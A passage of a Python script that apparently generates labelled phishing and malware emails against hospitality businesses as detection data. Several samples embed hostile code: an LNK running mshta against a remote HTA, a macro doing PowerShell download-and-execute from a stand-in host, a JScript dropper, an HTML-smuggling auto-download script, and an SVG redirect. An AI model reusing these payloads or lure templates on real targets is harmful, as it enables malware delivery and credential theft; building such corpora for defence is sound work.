        assemble(top, hops, own, tail, text(plain)),
        "French advance-fee scam: a fake Ivorian travel agency promises an 18-room group booking but first requires a 'ministry registration fee' paid to its 'approved office'.")


for _fn in (a_stripe_dispute, a_square_html_attachment, a_sumup_de, a_food_safety_lnk, a_licence_gr_dropbox, a_supplier_iban_change,
            a_supplier_reply_hijack_sharepoint, a_docusign_fake_ipfs, a_docusign_genuine_abuse, a_group_overpayment, a_travel_agency_fee_fr):
    _fn()


# ---------------------------------------------------------------- attacks: guest-inquiry malware and downloads

def gmail_alt(seed: str, plain: str, html_inner: str | None = None) -> Multi:
    html = '<div dir="ltr">' + (html_inner if html_inner is not None else plain.replace("&", "&amp;").replace("<", "&lt;").replace("\n", "<br>\n")) + "</div>\n"
    return Multi("alternative", f"000000000000{h(seed+'alt',16)}", [text(plain), text(html, "html")])


def gmail_head(seed: str, when: datetime, name: str, frm: str, to: str, subject: str, extra: list[str] | None = None) -> list[str]:
    return ["MIME-Version: 1.0"] + (extra or []) + [f"From: {addr(name, frm)}", f"Date: {fmt(when)}", f"Message-ID: {gmail_msgid(seed)}",
                                                     f"Subject: {enc(subject)}", f"To: {to}"]


def a_guest_iso_lnk() -> None:
    seed = "a28"
    when = T(2024, 11, 26, 20, 41, 7, 1)
    rcpt = "reservations@grandcanalsuites.com"
    frm = "mark.lindqvist88@gmail.com"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\cmd.exe", r"/c start /min conhost.exe --headless mshta https://cdn-guest-files.icu/v/lq.hta")
    iso = files.iso_image([("Booking_details_and_passport_scans.lnk", lnk), ("readme.txt", b"Guest documents\r\n")], "GUESTDOCS")
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="US")
    plain = ("Hi,\n\nThank you for the reply. As requested I am sending the documents for our booking (3 rooms, 18-22 December), "
             "including the passport scans of all 6 guests and the list of special requests for the anniversary dinner.\n\n"
             "Please check everything and confirm if it is all fine, I also included the details of the card we want to use.\n\n"
             "Best regards,\nMark Lindqvist\n")
    body = Multi("mixed", f"000000000000{h(seed+'mx',16)}", [gmail_alt(seed, plain),
                                                               attachment("application/x-iso9660-image", "Booking_details_Lindqvist.iso", iso)])
    own = sigs + gmail_head(seed, when, "Mark Lindqvist", frm, rcpt, "Re: Availability 18-22 December, 3 rooms",
                            [f"References: <{h(seed+'r',24)}@grandcanalsuites.com>", f"In-Reply-To: <{h(seed+'r',24)}@grandcanalsuites.com>"])
    add("malware", "phish", "guest-booking-details-iso-lnk",
        assemble(top, hops, own, tail, body),
        "Fake guest on Gmail replies to an availability thread with 'passport scans and booking details' as an ISO disc image holding a LNK that launches mshta against a remote HTA.")


def a_guest_download_link() -> None:
    seed = "a29"
    when = T(2025, 2, 11, 23, 6, 58, 1)
    rcpt = "booking@boutiquehotelmitte.de"
    frm = "sophie.marchetti.92@gmail.com"
    link = "https://drive.google.com/uc?export=download&id=1" + alnum(seed + "gd", 32)
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="DE", lang="en")
    plain = ("Hello,\n\nI stayed at your hotel from 6 to 9 February (room 214) and I have to complain about the way I was treated at the reception "
             "on my departure and about an extra charge on my card that I did not authorise.\n\n"
             "I have collected my card statement, the photos and the conversation in one file because the email did not accept it:\n"
             f"{link}\n\nI expect an answer today, otherwise I will dispute the payment with my bank and write a review.\n\nSophie Marchetti\n")
    html_inner = plain.replace("\n", "<br>\n").replace(link, f'<a href="{link}">Complaint_Marchetti_statement_photos.zip</a>')
    own = sigs + gmail_head(seed, when, "Sophie Marchetti", frm, rcpt, "Complaint - unauthorised charge room 214")
    add("phishing", "phish", "guest-complaint-drive-download",
        assemble(top, hops, own, tail, gmail_alt(seed, plain, html_inner)),
        "Angry 'guest complaint about an unauthorised charge' from Gmail linking to a Google Drive direct download of a zip of 'statement and photos' (infostealer delivery).")


def a_guest_html_smuggling() -> None:
    seed = "a30"
    when = T(2025, 7, 7, 9, 58, 12, 1)
    rcpt = "info@hotelalpenrose-tirol.at"
    frm = "reisen.bergmann@web.de"
    payload = base64.b64encode(files.zip_archive([("Buchungsbestaetigung_Bergmann.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w h -enc SQBFAFgA',0);\n")])).decode()
    chunks = "\n".join(f'"{payload[i:i+76]}"+' for i in range(0, len(payload), 76))
    smug = html_page('<p style="font-family:Arial">Dokument wird geladen &hellip;</p>\n<script>\nvar d=' + chunks + '"";\n'
                     'var b=atob(d);var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}\n'
                     'var f=new Blob([u],{type:"application/octet-stream"});var a=document.createElement("a");\n'
                     'a.href=URL.createObjectURL(f);a.download="Buchungsbestaetigung_Bergmann.zip";document.body.appendChild(a);a.click();\n</script>',
                     "Buchungsbestätigung")
    top = [f"Return-Path: <{frm}>", f"Delivered-To: {rcpt}"]
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=frm, helo="mout.web.de", ip="212.227.15.4", spf="pass",
                        dkims=[("pass", "web.de", "s29768273")], dmarc=("pass", "quarantine"), hfrom="web.de", seed=seed,
                        server="sv12.world4you-hosting.at", rdns="mout.web.de")
    hops = [f"Received: from [192.168.178.24] ([91.64.113.208]) by mail.gmx.net (mrgmx004\n [212.227.17.190]) with ESMTPSA (Nemesis) id 1M{alnum(seed,14)} for\n <{rcpt}>; {fmt(before(when, 2))}"]
    plain = ("Sehr geehrte Damen und Herren,\n\nanbei die Buchungsbestätigung unseres Reisebüros für die Gruppe Bergmann (8 Personen, 2.-6. August) "
             "mit der Namensliste. Bitte prüfen Sie die Zimmeraufteilung und bestätigen Sie kurz.\n\nMit freundlichen Grüßen\nKatrin Bergmann\n")
    body = Multi("mixed", f"--=_{h(seed,24)}", [text(plain), attachment("text/html", "Buchungsbestaetigung_Bergmann.html", smug.encode())])
    own = [dkim("web.de", "s29768273", "X-UI-Sender-Class:Subject:From:To:Date:Message-ID:MIME-Version:Content-Type", seed, when),
           "X-UI-Sender-Class: 814a7b36-bfc1-4dae-8640-3722d8ec6cd6", "MIME-Version: 1.0",
           f"Message-ID: <trinity-{h(seed+'a',8)}-{h(seed+'b',4)}-{h(seed+'c',4)}-{h(seed+'d',4)}-{h(seed+'e',12)}-{int(when.timestamp())}{int(h(seed,3),16)}@3c-app-webde-bap12>",
           f"From: {addr('Katrin Bergmann', frm)}", f"To: {rcpt}", f"Subject: {enc('Buchungsbestätigung Gruppe Bergmann 02.08.-06.08.')}",
           f"Date: {fmt(when)}", "Importance: normal", "Sensitivity: Normal", "X-Priority: 3", "X-Provags-ID: V03:K1:" + b64(seed + "pv", 60)]
    add("malware", "phish", "group-confirmation-html-smuggling-de",
        assemble(top, hops, own, tail, body),
        "German group-booking confirmation from a web.de account with an HTML attachment that smuggles a zip (JScript dropper) via an embedded base64 blob and auto-download.")


def a_guest_docm_de() -> None:
    seed = "a31"
    when = T(2024, 5, 21, 15, 12, 40, 2)
    rcpt = "empfang@landhaus-seeblick.de"
    frm = "t.krueger-events@t-online.de"
    macro = ('Sub AutoOpen()\n    Dim s As String\n    s = "pow" & "ershell -nop -w hidden -c " & Chr(34) & "IEX(New-Object Net.WebClient).DownloadString(\'https://tagungsplan-docs.online/p.ps1\')" & Chr(34)\n'
             '    CreateObject("WScript.Shell").Run s, 0\nEnd Sub\n')
    doc = files.docx(["Tagungsanfrage Firmenfeier", "Bitte aktivieren Sie die Bearbeitung und den Inhalt, um das Dokument anzuzeigen."],
                     "Tagungsanfrage", "T. Krueger", macro=macro)
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=frm, helo="mailout11.t-online.de", ip="194.25.134.85", spf="pass",
                        dkims=[], dmarc=("none", "none"), hfrom="t-online.de", seed=seed, server="alfa3041.alfahosting-server.de",
                        rdns="mailout11.t-online.de")
    hops = [f"Received: from fwd86.aul.t-online.de (fwd86.aul.t-online.de [10.223.144.112])\n\tby mailout11.t-online.de (Postfix) with SMTP id 4Vk{alnum(seed,8)}\n\tfor <{rcpt}>; {fmt(before(when,2))}"]
    plain = ("Guten Tag,\n\nwir planen eine Firmenfeier mit ca. 45 Personen am 14. Juni inkl. 20 Übernachtungen. Unsere Wünsche "
             "(Menü, Technik, Zimmer) finden Sie im angehängten Dokument. Bitte senden Sie uns ein Angebot.\n\nMit freundlichen Grüßen\nThomas Krüger\n")
    body = Multi("mixed", f"----=_Part_{h(seed,8)}", [text(plain),
                                                        attachment("application/vnd.ms-word.document.macroEnabled.12", "Tagungsanfrage_Krueger.docm", doc)])
    own = ["MIME-Version: 1.0", f"Message-ID: <{h(seed+'m',16)}.{int(h(seed,4),16)}@email.t-online.de>", f"Date: {fmt(when)}",
           f"From: {addr('Thomas Krüger', frm)}", f"To: {rcpt}", "Subject: Anfrage Firmenfeier 14. Juni", "X-TOI-MSGID: " + h(seed + "toi", 8) + "-" + h(seed + "t2", 4),
           "X-Mailer: Telekom Mail Center 4.0"]
    add("malware", "phish", "event-inquiry-docm-de",
        assemble(top, hops, own, tail, body),
        "German corporate-event inquiry from a t-online.de address with a macro-enabled Word document (AutoOpen runs hidden PowerShell download-and-execute).")


def a_guest_scr_pt() -> None:
    seed = "a32"
    when = T(2025, 8, 18, 22, 3, 14, 1)
    rcpt = "reservas@guesthousealfama.pt"
    frm = "ana.ribeiro.viagens@hotmail.com"
    z = files.zip_archive([("Fotos_danos_quarto/IMG_20250816_2231.jpg.scr", files.pe_stub()),
                           ("Fotos_danos_quarto/IMG_20250816_2232.jpg.scr", files.pe_stub())])
    top, hops, sigs, tail = envelope("outlookcom", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Boa noite,\n\nestive hospedada no vosso alojamento no fim de semana e a minha mala ficou estragada com uma infiltração de água no armário. "
             "Envio as fotos em anexo (zip porque eram muitas). Peço que me digam como vão resolver a situação.\n\nAna Ribeiro\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr"><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;">'
            + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    body = Multi("mixed", f"_004_{h(seed,30)}_", [Multi("alternative", f"_000_{h(seed+'a',30)}_", [text(plain), text(html, "html")]),
                                                    attachment("application/x-zip-compressed", "Fotos_danos_quarto.zip", z)])
    own = sigs + stdhead(frm=addr("Ana Ribeiro", frm), to=rcpt, subject="Reclamação - mala danificada", when=when, msgid=outlook_msgid(seed, "namprd"),
                         extra=[f"Thread-Topic: {enc('Reclamação - mala danificada')}",
                                f"Thread-Index: {thread_index(seed)}", "Accept-Language: pt-PT, en-US", "Content-Language: pt-PT",
                                "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator: "])
    add("malware", "phish", "guest-damage-photos-scr-pt",
        assemble(top, hops, own, tail, body),
        "Portuguese 'damaged suitcase, photos attached' complaint from a Hotmail account; the zip holds .jpg.scr Windows executables.")


def a_booking_relay_it_payment() -> None:
    seed = "a33"
    when = T(2025, 9, 29, 8, 14, 27, 2)
    rcpt = "info@bbcorteantica-firenze.it"
    relay = "5592018374.9c2e1f7a@guest.booking.com"
    link = "https://bit.ly/4gBkR" + alnum(seed, 3)
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom="bounces+5592018374@guest.booking.com", helo="mailout-ams4-17.booking.com",
                        ip="185.28.222.17", spf="pass", dkims=[("pass", "booking.com", "bk")], dmarc=("pass", "reject"),
                        hfrom="guest.booking.com", seed=seed, server="host41.register-it-hosting.it", rdns="mailout-ams4-17.booking.com")
    hops = [f"Received: from guest-msg-relay-3b1c2 (unknown [10.196.41.7])\n\tby mailout-ams4-17.booking.com (Postfix) with ESMTP id 4ZQ{alnum(seed,8)}\n\tfor <{rcpt}>; {fmt(before(when, 2))}"]
    msg = ("Buongiorno, la mia carta è stata addebitata due volte per la prenotazione. La banca mi ha chiesto di inviare la conferma "
           "del pagamento all'hotel, la trovate qui, controllate per favore e restituite l'addebito doppio: ")
    inner = ('<p style="font-size:18px;font-weight:bold;">Hai ricevuto un nuovo messaggio da Luca Benedetti</p>\n'
             '<p style="color:#6b6b6b;">Prenotazione 3302 918 445 &middot; B&amp;B Corte Antica &middot; 10&ndash;13 ott 2025</p>\n'
             f'<div style="background:#f2f6fa;border-radius:8px;padding:16px;">{msg.replace("è", "&egrave;").replace("à", "&agrave;")}<a href="{link}">{link}</a></div>\n'
             + button("https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=6628104&amp;res_id=3302918445&amp;source=email", "Rispondi"))
    html = booking_tpl(inner)
    plain = f"Hai ricevuto un nuovo messaggio da Luca Benedetti\nPrenotazione 3302 918 445\n\n{msg}{link}\n"
    own = [dkim("booking.com", "bk", "from:reply-to:to:subject:date:message-id:mime-version:content-type", seed, when),
           f"From: {addr('Luca Benedetti tramite Booking.com', relay)}", f"Reply-To: {relay}", f"To: {rcpt}",
           "Subject: Abbiamo ricevuto questo messaggio da Luca Benedetti", f"Date: {fmt(when)}",
           f"Message-ID: <msg.{h(seed+'m',20)}.3302918445@booking.com>", "Auto-Submitted: auto-generated"]
    add("phishing", "phish", "booking-relay-double-charge-bitly-it",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Italian message through the genuine Booking.com guest relay (booking.com DKIM passes) claiming a double charge, with a bit.ly link to a 'payment confirmation' (malware/ClickFix landing).")


for _fn in (a_guest_iso_lnk, a_guest_download_link, a_guest_html_smuggling, a_guest_docm_de, a_guest_scr_pt, a_booking_relay_it_payment):
    _fn()


# ---------------------------------------------------------------- attacks: hosting, vendors, BEC, abused platforms

def o365_alt(seed: str, plain: str, font: str = "Aptos,Calibri,Helvetica,sans-serif") -> Multi:
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            f'<div style="font-family:{font};font-size:12pt;color:rgb(0,0,0);">'
            + plain.replace("&", "&amp;").replace("<", "&lt;").replace("\n", "<br>\n") + "</div></body></html>\n")
    return Multi("alternative", f"_000_{h(seed+'oa',30)}_", [text(plain), text(html, "html")])


def ms_extra(seed: str, subject: str, lang: str = "en-US", attach: bool = False) -> list[str]:
    return [f"Thread-Topic: {enc(subject)}", f"Thread-Index: {thread_index(seed)}", f"Accept-Language: {lang}, en-US",
            f"Content-Language: {lang}", f"X-MS-Has-Attach: {'yes' if attach else ''}", "X-MS-TNEF-Correlator: "]


def a_domain_expiry() -> None:
    seed = "a34"
    when = T(2025, 5, 30, 6, 2, 39, 0)
    rcpt = "info@seacliffguesthouse.co.za"
    frm = "renewals@domain-services-center.com"
    link = "https://domain-renewal-seacliff.pages.dev/pay?domain=seacliffguesthouse.co.za&inv=DR-" + str(int(h(seed, 6), 16))
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, host="smtp.domain-services-center.com",
                                     ip="45.88.91.204", server="cp41.afrihost-web.co.za")
    hops = [postfix_hop(seed, when, "smtp.domain-services-center.com", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;color:#c0392b;">Domain expiration notice: seacliffguesthouse.co.za</p>\n'
             '<p>Your domain <b>seacliffguesthouse.co.za</b> expires <b>today</b>. After expiry your website and all e-mail addresses on this domain will stop working '
             'and the domain may be registered by a third party.</p>\n<table cellpadding="6" style="font-size:14px;"><tr><td>Renewal period</td><td>1 year</td></tr>'
             '<tr><td>Amount</td><td>R 189.00</td></tr></table>\n' + button(link, "Renew now", "#27ae60") +
             '\n<p style="font-size:11px;color:#888;">Domain Services Center - renewal processing</p>')
    html = generic_tpl("Domain Services Center", "#2c3e50", inner, "You received this notice because you are the registrant contact of this domain.")
    plain = f"Domain expiration notice: seacliffguesthouse.co.za expires today.\nRenew now (R 189.00): {link}\n"
    own = sigs + stdhead(frm=addr("Domain Services", frm), to=rcpt, subject="FINAL NOTICE: seacliffguesthouse.co.za expires today", when=when,
                         msgid=f"<{h(seed+'m',24)}@domain-services-center.com>")
    add("phishing", "phish", "domain-expiry-final-notice-pagesdev",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Fake domain-expiry final notice from domain-services-center.com to a guesthouse; 'Renew now' leads to a pages.dev card-payment page.")


def a_cpanel_quota() -> None:
    seed = "a35"
    when = T(2024, 4, 16, 3, 27, 51, 3)
    rcpt = "info@aegeanbluerooms.gr"
    frm = "info@aegeanbluerooms.gr"
    link = "https://www.kafeneio-platanos.gr/wp-includes/js/mail/webmail/?email=info@aegeanbluerooms.gr"
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom="admin@zakatfund-kw.org", helo="server.zakatfund-kw.org", ip="103.161.170.9",
                        spf="pass", dkims=[], dmarc=("fail", "none"), hfrom="aegeanbluerooms.gr", seed=seed, server="s7.grserver.gr")
    hops = []
    inner = ('<p style="font-size:16px;"><b>Mailbox storage quota exceeded</b></p>\n<p>Your mailbox <b>info@aegeanbluerooms.gr</b> has reached 98% '
             '(1.96 GB of 2 GB). Incoming messages are being held and will be returned to the senders.</p>\n'
             f'<p>Release pending messages and increase your quota:</p>{button(link, "Release messages", "#179bd7")}\n'
             '<p style="font-size:11px;color:#777;">cPanel, L.L.C. &mdash; Mail Delivery System</p>')
    html = generic_tpl("cPanel", "#293a4a", inner, "This notice is automatically generated by the mail server of aegeanbluerooms.gr")
    plain = f"Mailbox storage quota exceeded for info@aegeanbluerooms.gr (98%).\nRelease messages: {link}\n"
    own = stdhead(frm=addr("Mail Delivery System", frm), to=rcpt, subject="Mailbox quota exceeded - 7 incoming messages on hold", when=when,
                  msgid=f"<{h(seed+'m',32)}@server.zakatfund-kw.org>", extra=["X-Mailer: PHP/8.1.27", "X-Priority: 1"])
    add("phishing", "phish", "cpanel-quota-exceeded-compromised-wp",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Webmail quota lure to a Greek rooms host, From spoofing the recipient's own address (DMARC fail, p=none), sent from a compromised server; link to a webmail kit on a hacked WordPress site.")


def a_svg_voicemail() -> None:
    seed = "a36"
    when = T(2025, 3, 19, 14, 36, 2, -5)
    rcpt = "sales@rivermillhotel-nashville.com"
    frm = "voicemail@ringcentral-voice-notify.com"
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">\n'
           '<rect width="400" height="120" fill="#f5f5f5"/><text x="20" y="60" font-family="Arial" font-size="16">Loading voice message...</text>\n'
           '<script type="text/javascript"><![CDATA[\nvar e="c2FsZXNAcml2ZXJtaWxsaG90ZWwtbmFzaHZpbGxlLmNvbQ==";\n'
           'window.location.href=atob("aHR0cHM6Ly92bS1wbGF5YmFjay5jbG91ZC1hdWRpby1tc2cuY29tL20vP3U9")+e;\n]]></script>\n</svg>\n').encode()
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mta1.ringcentral-voice-notify.com",
                                     ip="172.86.75.34", ctry="US")
    hops = [postfix_hop(seed, when, "mta1.ringcentral-voice-notify.com", rcpt)]
    plain = "New Voice Message\nFrom: +1 (615) 555-0142\nDuration: 00:01:12\nReceived: Mar 19, 2025 2:34 PM\n\nPlay the attached message.\n"
    html = html_page('<div style="font-family:Arial;font-size:14px;"><p style="font-size:18px;"><b>New Voice Message</b></p>'
                     '<p>From: +1 (615) 555-0142<br>Duration: 00:01:12<br>Received: Mar 19, 2025 2:34 PM</p><p>Play the attached message.</p></div>')
    body = Multi("mixed", f"----=_NextPart_{h(seed,20)}", [alt(plain, html, seed), attachment("image/svg+xml", "VM_6155550142_0319.svg", svg)])
    own = sigs + stdhead(frm=addr("Voice Message", frm), to=rcpt, subject="New Voicemail from +1 (615) 555-0142 [00:01:12]", when=when,
                         msgid=f"<{h(seed+'m',24)}@ringcentral-voice-notify.com>")
    add("phishing", "phish", "voicemail-svg-redirect",
        assemble(top, hops, own, tail, body),
        "Fake voicemail notification to a hotel sales inbox with an SVG attachment whose script redirects to a Microsoft 365 credential page, recipient address pre-filled.")


def a_m365_password_expiry() -> None:
    seed = "a37"
    when = T(2025, 10, 21, 7, 45, 10, 2)
    rcpt = "reception@hotelportobello-nice.fr"
    frm = "it-support@nettoyage-provence-services.fr"
    final = "https://login-microsoftonline-sso.azurewebsites.net/common/oauth2/?id=" + h(seed, 16)
    link = "https://t.co/" + alnum(seed + "tco", 10)
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="FR", lang="fr")
    plain = ("Microsoft 365\n\nLe mot de passe de reception@hotelportobello-nice.fr expire aujourd'hui.\n"
             f"Conserver le mot de passe actuel : {link}\n\nÉquipe de sécurité Microsoft 365\n")
    html = html_page('<div style="font-family:Segoe UI,Arial;font-size:14px;max-width:520px;"><p style="font-size:20px;">Microsoft 365</p>'
                     '<p>Le mot de passe de <b>reception@hotelportobello-nice.fr</b> expire aujourd&#39;hui.</p>'
                     f'<p><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 16px;text-decoration:none;">Conserver le mot de passe actuel</a></p>'
                     '<p style="color:#666;font-size:12px;">&Eacute;quipe de s&eacute;curit&eacute; Microsoft 365</p></div>')
    own = sigs + stdhead(frm=addr("Microsoft 365", frm), to=rcpt, subject="Expiration du mot de passe - reception@hotelportobello-nice.fr",
                         when=when, msgid=outlook_msgid(seed), extra=ms_extra(seed, "Expiration du mot de passe", "fr-FR"))
    add("phishing", "phish", "m365-password-expiry-compromised-fr",
        assemble(top, hops, own, tail, Multi("alternative", f"_000_{h(seed,30)}_", [text(plain), text(html, "html")])),
        f"French 'password expires today' Microsoft 365 lure from a compromised cleaning company's tenant (checks pass), t.co shortener to an azurewebsites.net login clone.")


def a_pos_update_download() -> None:
    seed = "a38"
    when = T(2024, 9, 5, 16, 20, 44, -4)
    rcpt = "manager@bluecrabshack.com"
    frm = "support@lightspeed-pos-updates.com"
    link = "https://lightspeed-pos-updates.com/download/LightspeedRestaurant_Terminal_Update_v8.4.2.msi"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, mailfrom="bounce@mg.lightspeed-pos-updates.com",
                                     host="m228-12.mailgun.net", ip="159.135.228.12", d="lightspeed-pos-updates.com",
                                     dk=[("pass", "lightspeed-pos-updates.com", "mx"), ("pass", "mailgun.org", "mg")], dmarc=("pass", "none"))
    hops = [f"Received: by {h(seed,16)} with HTTP id {h(seed+'mg',24)}; {fmt(before(when,2))}"]
    inner = ('<p style="font-size:20px;font-weight:bold;">Mandatory terminal update &ndash; PCI DSS 4.0</p>\n<p>Hi Blue Crab Shack,</p>'
             '<p>To remain PCI DSS 4.0 compliant, all Lightspeed Restaurant terminals must be updated to version 8.4.2 before <b>September 10</b>. '
             'Terminals that are not updated will stop accepting card payments.</p>\n'
             f'<p>Download and run the installer on each back-office PC:</p>{button(link, "Download update (v8.4.2)", "#e4202e")}\n<p>Lightspeed Support</p>')
    html = generic_tpl("Lightspeed", "#000000", inner, "Lightspeed Commerce Inc., 700 Saint-Antoine St. East, Montreal, Quebec H2Y 1A6")
    plain = f"Mandatory terminal update - PCI DSS 4.0\nDownload: {link}\nLightspeed Support\n"
    own = sigs[:1] + stdhead(frm=addr("Lightspeed Support", frm), to=rcpt, subject="Mandatory POS terminal update before September 10",
                             when=when, msgid=f"<{int(when.timestamp())}.{h(seed+'m',16)}@mg.lightspeed-pos-updates.com>",
                             extra=["X-Mailgun-Sending-Ip: 159.135.228.12", "X-Mailgun-Sid: " + b64(seed + "sid", 40)]) + sigs[1:]
    add("phishing", "phish", "pos-terminal-update-msi-download",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Fake Lightspeed POS 'mandatory PCI terminal update' sent via Mailgun from a look-alike domain, linking to an MSI installer download (remote-access tool).")


def a_wifi_invoice_pdf() -> None:
    seed = "a39"
    when = T(2025, 1, 8, 10, 3, 20, 1)
    rcpt = "direzione@hotelvillaflora-taormina.it"
    frm = "fatturazione@hotspot-wifi-servizi.it"
    link = "https://hotspot-wifi-servizi.it.portale-pagamenti.com/fattura/HS-2025-0147"
    pdf = files.pdf(["HOTSPOT WIFI SERVIZI", "Fattura n. HS-2025-0147 del 08/01/2025", "", "Rinnovo licenza Wi-Fi ospiti (60 access point) 2025",
                     "Imponibile EUR 1.180,00 - IVA 22% EUR 259,60 - Totale EUR 1.439,60", "",
                     "Il servizio verra' sospeso il 15/01/2025 in assenza di pagamento.", "Paga online con il pulsante qui sotto."],
                    link=(link, (56, 560, 300, 600)), title="Fattura HS-2025-0147")
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="smtp.hotspot-wifi-servizi.it",
                                     ip="185.225.74.19", ctry="IT", lang="it")
    hops = [postfix_hop(seed, when, "smtp.hotspot-wifi-servizi.it", rcpt)]
    plain = ("Gentile Cliente,\n\nin allegato la fattura HS-2025-0147 relativa al rinnovo annuale della licenza Wi-Fi ospiti.\n"
             "Il servizio verrà sospeso il 15/01/2025 in assenza di pagamento.\n\nCordiali saluti\nUfficio Amministrazione\n")
    body = Multi("mixed", f"=_{h(seed,28)}", [text(plain), attachment("application/pdf", "Fattura_HS-2025-0147.pdf", pdf)])
    own = sigs + stdhead(frm=addr("Hotspot WiFi Servizi", frm), to=rcpt, subject="Fattura HS-2025-0147 - rinnovo licenza Wi-Fi ospiti", when=when,
                         msgid=f"<{h(seed+'m',24)}@hotspot-wifi-servizi.it>", extra=["X-Mailer: Microsoft Outlook 16.0"])
    add("phishing", "phish", "wifi-licence-invoice-pdf-link-it",
        assemble(top, hops, own, tail, body),
        "Italian fake guest Wi-Fi licence renewal invoice with a PDF whose 'pay' link points to a deceptive subdomain (hotspot-wifi-servizi.it.portale-pagamenti.com) card-payment page.")


def a_thefork_fr() -> None:
    seed = "a40"
    when = T(2025, 4, 15, 11, 55, 8, 2)
    rcpt = "bistrotducanal.lyon@gmail.com"
    frm = "manager@thefork-manager-support.com"
    link = "https://thefork-manager-support.com/fr/login?rid=" + str(int(h(seed, 6), 16))
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, host="mail.thefork-manager-support.com", ip="89.23.103.57")
    hops = [postfix_hop(seed, when, "mail.thefork-manager-support.com", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;color:#00665c;">Une r&eacute;clamation client a &eacute;t&eacute; ouverte</p>\n'
             '<p>Bonjour Bistrot du Canal,</p><p>Un client a signal&eacute; un probl&egrave;me d&#39;hygi&egrave;ne lors de sa visite du 12 avril. '
             'Sans r&eacute;ponse de votre part sous 48h, votre restaurant sera temporairement masqu&eacute; sur TheFork et les r&eacute;servations futures seront suspendues.</p>\n'
             f'{button(link, "Répondre dans TheFork Manager", "#00665c")}\n<p>L&#39;&eacute;quipe TheFork</p>')
    html = generic_tpl("TheFork", "#00665c", inner, "TheFork SAS, 70 rue Saint-Lazare, 75009 Paris")
    plain = f"Une réclamation client a été ouverte.\nRépondre dans TheFork Manager : {link}\nL'équipe TheFork\n"
    own = sigs + stdhead(frm=addr("TheFork Manager", frm), to=rcpt, subject="Réclamation client - réponse requise sous 48h", when=when,
                         msgid=f"<{h(seed+'m',24)}@thefork-manager-support.com>")
    add("phishing", "phish", "thefork-complaint-fr",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "French TheFork Manager 'customer hygiene complaint, restaurant will be hidden' lure from a look-alike domain with a credential link on it.")


def a_opentable_locked() -> None:
    seed = "a41"
    when = T(2024, 12, 10, 9, 12, 33, -5)
    rcpt = "reservations@olivebranchnyc.com"
    frm = "guestcenter@mail-opentable-restaurants.com"
    link = "https://opentable-guestcenter.web.app/login?rid=" + str(int(h(seed, 6), 16))
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="out.mail-opentable-restaurants.com",
                                     ip="23.94.171.150", ctry="US")
    hops = [postfix_hop(seed, when, "out.mail-opentable-restaurants.com", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;">Your GuestCenter account has been locked</p>\n'
             '<p>We detected unusual sign-in activity on your OpenTable GuestCenter account. To protect your guest data, the account was locked. '
             'Tonight&#39;s reservations will not sync to your host stand until you confirm your identity.</p>\n'
             f'{button(link, "Unlock account", "#da3743")}\n<p>OpenTable Restaurant Support</p>')
    html = generic_tpl("OpenTable", "#da3743", inner, "OpenTable, Inc., 1 Montgomery St., Suite 700, San Francisco, CA 94104")
    plain = f"Your GuestCenter account has been locked.\nUnlock account: {link}\n"
    own = sigs + stdhead(frm=addr("OpenTable", frm), to=rcpt, subject="Your GuestCenter account has been locked", when=when,
                         msgid=f"<{h(seed+'m',24)}@mail-opentable-restaurants.com>")
    add("phishing", "phish", "opentable-guestcenter-locked-webapp",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "OpenTable GuestCenter 'account locked, reservations won't sync' lure from look-alike domain to a restaurant; unlock link on web.app.")


def a_owner_giftcards() -> None:
    seed = "a42"
    when = T(2025, 6, 27, 10, 4, 51, -4)
    rcpt = "frontdesk@harborviewinnme.com"
    frm = "ceo.harborviewinn@gmail.com"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Hi Jenna, are you at the front desk now? I need a quick favor, I'm in a meeting with the bank and can't take calls. "
             "Let me know asap.\n\nRobert\nSent from my iPhone\n")
    own = sigs + gmail_head(seed, when, "Robert Callahan", frm, rcpt, "Quick favor")
    add("phishing", "phish", "owner-impersonation-quick-favor",
